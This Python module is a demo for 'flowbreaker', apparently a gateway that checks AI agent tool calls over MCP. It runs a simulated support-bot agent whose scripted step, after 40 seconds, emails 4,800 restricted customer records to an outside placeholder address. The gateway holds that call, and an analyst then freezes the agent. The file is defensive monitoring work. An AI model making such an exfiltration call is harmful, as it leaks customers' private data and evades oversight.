"""The demo's MCP agent: one agent that reaches its tools through ``flowbreaker mcp-proxy``, and is stopped by a freeze.

It is an MCP client (the ``mcp`` SDK's ``ClientSession`` over ``stdio_client``) that starts the gateway as a
desktop assistant would (``flowbreaker mcp-proxy ... -- python -m streams.demo.mcp_agent --serve``), in front of
a small MCP server of its own (``--serve``: a support desk's ``tickets.read``, ``crm.get_customer``,
``email.send`` and ``tickets.update``). It acts as one of the simulated fleet's support bots (``--agent-id``;
the demo picks one), doing that bot's usual work over MCP: each ticket is one task (its calls carry a fresh
W3C ``traceparent`` in ``_meta``, which the gateway takes as the task). Its story, in the demo's terminal:

1. it connects and works tickets (read the ticket, look the customer up, reply to the customer, update the
   ticket): each call is checked and forwarded, and published on ``agent-actions``;
2. after ``--exfil-after`` seconds it tries to mail 4,800 restricted customer records to a never-seen outside
   address: the pre-action check holds the call for approval (the server never sees it);
3. ``--freeze-after`` seconds in, the demo's analyst, seeing that held request, freezes the agent
   (``POST /v1/agents/ID/freeze``, the analyst's token), unless the stream froze it already;
4. its next call is refused by the gateway ("agent ... is frozen"), and so is every call after it.

Lines for the demo's terminal go to stdout (one event a line); the gateway's log is ``--workdir``/mcp-gateway.err.
:func:`start` is the demo's hook (``streams/demo/live.py``): it starts this agent next to the reference runtime
when the demo runs its own worker, and relays its lines.
"""

from __future__ import annotations

import argparse
import json
import os
import random
import sys
import threading
import time
import urllib.error
import urllib.request
from pathlib import Path
from typing import Any

__all__ = ["start", "main", "mapping_text"]

QUEUE = "tickets://zendesk/ticket/"
EXFIL_TO = "backup.sync@files-archive.example"


def mapping_text(operator_id: str) -> str:
    """The demo MCP server's tools as flowbreaker actions (docs/contract.md, the tool mapping file)."""
    return f"""\
[defaults]
operator_id = "{operator_id}"
sensitivity = "confidential"
records = 1

[[tool]]
match = "tickets.read"
action = "read"
resource = {{ from = "arguments.ticket_id", prefix = "{QUEUE}" }}

[[tool]]
match = "crm.get_customer"
action = "read"
resource = {{ from = "arguments.customer_id", prefix = "crm://customers/" }}

[[tool]]
match = "email.send"
action = "send"
resource = {{ from = "arguments.ticket_id", prefix = "{QUEUE}", default = "crm://customers/export" }}
sensitivity = {{ from = "arguments.classification", default = "confidential" }}
destinations = {{ from = "arguments.to", prefix = "email:" }}
records = {{ from = "arguments.records", default = 1 }}

[[tool]]
match = "tickets.update"
action = "write"
resource = {{ from = "arguments.ticket_id", prefix = "{QUEUE}" }}
sensitivity = "internal"
"""


# ---------------------------------------------------------------------- the MCP server (--serve)

def serve() -> None:
    """The support desk's MCP server, on stdio."""
    from mcp.server.mcpserver import MCPServer

    server = MCPServer("support-desk", instructions="The support desk's tickets and customer records.")

    @server.tool(name="tickets.read")
    def tickets_read(ticket_id: str) -> str:
        """Read a support ticket."""
        return json.dumps({"ticket": ticket_id, "subject": "invoice question", "status": "open"})

    @server.tool(name="crm.get_customer")
    def crm_get_customer(customer_id: str) -> str:
        """Look a customer up."""
        return json.dumps({"id": customer_id, "plan": "business", "open_tickets": 2})

    @server.tool(name="email.send")
    def email_send(to: str, subject: str, body: str, ticket_id: str | None = None, records: int = 1,
                   classification: str = "confidential") -> str:
        """Send an email (``records``: customer records attached)."""
        return f"sent '{subject}' to {to} with {records} records"

    @server.tool(name="tickets.update")
    def tickets_update(ticket_id: str, status: str) -> str:
        """Update a ticket's status."""
        return f"ticket {ticket_id} is {status}"

    server.run("stdio")


# ---------------------------------------------------------------------- the agent

def say(text: str) -> None:
    print(text, flush=True)


def _freeze(api: str, token: str, agent: str, reason: str) -> str:
    req = urllib.request.Request(f"{api}/v1/agents/{agent}/freeze", method="POST",
                                 data=json.dumps({"reason": reason}).encode(),
                                 headers={"Authorization": f"Bearer {token}", "Content-Type": "application/json"})
    try:
        with urllib.request.urlopen(req, timeout=10) as r:
            return (json.loads(r.read() or b"{}") or {}).get("incident_id") or "?"
    except (urllib.error.URLError, OSError, ValueError) as err:
        return f"(failed: {err})"


async def agent(args: argparse.Namespace) -> None:
    import anyio
    from mcp import ClientSession
    from mcp.client.stdio import StdioServerParameters, stdio_client

    workdir = Path(args.workdir)
    workdir.mkdir(parents=True, exist_ok=True)
    mapping = workdir / "mcp-tools.toml"
    mapping.write_text(mapping_text(args.operator_id))
    gateway = [sys.executable, "-c", "import sys; from streams.cli.main import main; sys.exit(main())", "mcp-proxy",
               "--agent-id", args.agent_id, "--api", args.api, "--token-file", args.token_file, "--mapping",
               str(mapping), *args.kafka, "--", sys.executable, "-m", "streams.demo.mcp_agent", "--serve"]
    params = StdioServerParameters(command=gateway[0], args=gateway[1:], env=dict(os.environ))
    analyst = Path(args.analyst_token_file).read_text().strip() if args.analyst_token_file else None
    rng = random.Random(args.agent_id)
    me = args.agent_id
    with open(workdir / "mcp-gateway.err", "a") as errlog:
        async with stdio_client(params, errlog=errlog) as (read, write), ClientSession(read, write) as session:
            with anyio.fail_after(120):
                init = await session.initialize()
            tools = [t.name for t in (await session.list_tools()).tools]
            say(f"{me} connected through flowbreaker mcp-proxy to MCP server '{init.server_info.name}' "
                f"({', '.join(tools)}): every tool call is checked first")
            t0 = time.monotonic()
            counts = {"allowed": 0, "refused": 0}
            state: dict[str, Any] = {"exfil": False, "frozen_at": None, "refusal_seen": False, "first_ok": False}

            async def call(tool: str, arguments: dict, task: str) -> Any:
                res = await session.call_tool(tool, arguments, meta={"traceparent": f"00-{task}-{rng.getrandbits(64):016x}-01"})
                meta = (res.meta or {}).get("flowbreaker") or {}
                if not res.is_error:
                    counts["allowed"] += 1
                    if not state["first_ok"]:
                        state["first_ok"] = True
                        say(f"{me} {tool}: allowed by the check, forwarded, published on agent-actions")
                else:
                    counts["refused"] += 1
                    if meta.get("verdict") == "frozen" and not state["refusal_seen"]:
                        state["refusal_seen"] = True
                        after = "" if state["frozen_at"] is None else \
                            f" {(time.monotonic() - state['frozen_at']) * 1000:.0f} ms after the freeze,"
                        say(f"{me} {tool}: REFUSED by the gateway{after} never reaching the server: "
                            f"{res.content[0].text}")
                return res, meta

            while args.duration <= 0 or time.monotonic() - t0 < args.duration:
                at = time.monotonic() - t0
                task = f"{rng.getrandbits(128):032x}"
                if not state["exfil"] and at >= args.exfil_after:
                    state["exfil"] = True
                    res, meta = await call("crm.get_customer", {"customer_id": "C-all"}, task)
                    res, meta = await call("email.send", {"to": EXFIL_TO, "subject": "customer export",
                                                          "body": "all customer records attached", "records": 4800,
                                                          "classification": "restricted"}, task)
                    if meta.get("verdict") == "needs_approval":
                        say(f"{me} tried to mail 4,800 restricted customer records to {EXFIL_TO}: HELD by the "
                            f"gateway for approval ({meta.get('approval_request_id')}); the server never saw it")
                    else:
                        say(f"{me} tried to mail 4,800 restricted customer records to {EXFIL_TO}: "
                            f"{meta.get('verdict') or 'forwarded'}")
                elif state["exfil"] and state["frozen_at"] is None and at >= args.freeze_after and analyst \
                        and not state["refusal_seen"]:
                    incident = _freeze(args.api, analyst, me, "its held request mails 4,800 restricted customer "
                                                              "records to an unknown outside address")
                    state["frozen_at"] = time.monotonic()
                    say(f"the demo's analyst froze {me} after reviewing its held request ({incident})")
                    continue  # its next call comes at once
                else:  # one ticket: read it, look the customer up, reply, update it
                    ticket = str(rng.randint(100000, 999999))
                    customer = f"C-{rng.randint(100000, 999999)}"
                    to = f"{rng.choice(('anna.varga', 'ben.silva', 'ivy.mendes'))}@" \
                         f"{rng.choice(('mailbox.example', 'globex.example', 'hooli.example'))}"
                    for tool, arguments in (("tickets.read", {"ticket_id": ticket}),
                                            ("crm.get_customer", {"customer_id": customer}),
                                            ("email.send", {"to": to, "subject": "your invoice", "body": "answer",
                                                            "ticket_id": ticket}),
                                            ("tickets.update", {"ticket_id": ticket, "status": "solved"})):
                        res, _ = await call(tool, arguments, task)
                        if res.is_error:
                            break
                        await anyio.sleep(args.every / 4)
                await anyio.sleep(args.every)
            say(f"{me}: {counts['allowed']} tool calls allowed, {counts['refused']} refused")


def main(argv: list[str] | None = None) -> int:
    p = argparse.ArgumentParser(prog="python -m streams.demo.mcp_agent", description=__doc__,
                                formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("--serve", action="store_true", help="be the demo's MCP server (stdio)")
    p.add_argument("--agent-id", default="support-agent-002", help="a support bot of the simulated fleet")
    p.add_argument("--operator-id", default="team-platform-eng", help="its operator")
    p.add_argument("--api", help="a worker's API")
    p.add_argument("--token-file", help="a runtime token (the gateway's)")
    p.add_argument("--analyst-token-file", help="an analyst token (the demo's analyst freezes the agent)")
    p.add_argument("--workdir", default="var/demo")
    p.add_argument("--every", type=float, default=3.0, help="seconds between two tickets (default %(default)s)")
    p.add_argument("--exfil-after", type=float, default=40.0)
    p.add_argument("--freeze-after", type=float, default=50.0)
    p.add_argument("--duration", type=float, default=0.0, help="seconds (0: until stopped)")
    p.add_argument("kafka", nargs=argparse.REMAINDER, help="-- the gateway's Kafka flags (--bootstrap ...)")
    args = p.parse_args(argv)
    if args.serve:
        serve()
        return 0
    if not (args.api and args.token_file):
        p.error("--api and --token-file are needed")
    args.kafka = [a for a in args.kafka if a != "--"]
    import anyio

    try:
        anyio.run(agent, args)
    except KeyboardInterrupt:
        pass
    return 0


# ---------------------------------------------------------------------- the demo's hook

def start(demo: Any) -> None:
    """Start the MCP agent beside the reference runtime (``streams/demo/live.py``), when the demo runs its own
    worker: as the simulated fleet's last support bot; its lines go to the demo's terminal, prefixed ``mcp agent``.
    ``FLOWBREAKER_DEMO_MCP=0`` leaves it out."""
    if os.environ.get("FLOWBREAKER_DEMO_MCP", "1") == "0":
        return
    if demo.web_port is None or not {"runtime", "analyst"} <= set(demo.token_files):
        demo.say("mcp agent   not started (the demo did not start the worker it would check against)")
        return
    from models.simulate import Fleet

    bots = [a for a in Fleet.make(n_agents=demo.args.agents, seed=demo.args.seed).agents if a.role == "support_bot"]
    if not bots:
        demo.say("mcp agent   not started (no support bot in a fleet this small: --agents)")
        return
    from streams.demo.live import spawn

    bot = bots[-1]
    args = [sys.executable, "-m", "streams.demo.mcp_agent", "--agent-id", bot.agent_id, "--operator-id",
            bot.operator_id, "--api", f"http://127.0.0.1:{demo.web_port}",
            "--token-file", str(demo.token_files["runtime"]), "--analyst-token-file",
            str(demo.token_files["analyst"]), "--workdir", str(demo.workdir), "--",
            *demo._kafka_flags(), *demo._verify_keys()]
    child = spawn("mcp-agent", args, demo.logdir)
    demo.children["mcp-agent"] = child
    demo.started.append(("mcp-agent", child.stop))
    demo.say_wrapped("mcp agent", f"{bot.agent_id} also works over MCP, through flowbreaker mcp-proxy (pid "
                                  f"{child.pid}): an exfiltration attempt at 40 s, an analyst's freeze at 50 s")

    def relay_lines() -> None:
        offset = 0
        while not demo.stop.is_set():
            try:
                with open(child.out, "rb") as fh:
                    fh.seek(offset)
                    chunk = fh.read()
            except OSError:
                chunk = b""
            if b"\n" in chunk:
                done = chunk[:chunk.rindex(b"\n") + 1]
                offset += len(done)
                for line in done.decode(errors="replace").splitlines():
                    if line.strip():
                        demo.say_wrapped("mcp agent", line)
            demo.stop.wait(0.5)

    threading.Thread(target=relay_lines, name="demo-mcp-agent-lines", daemon=True).start()


if __name__ == "__main__":
    raise SystemExit(main())
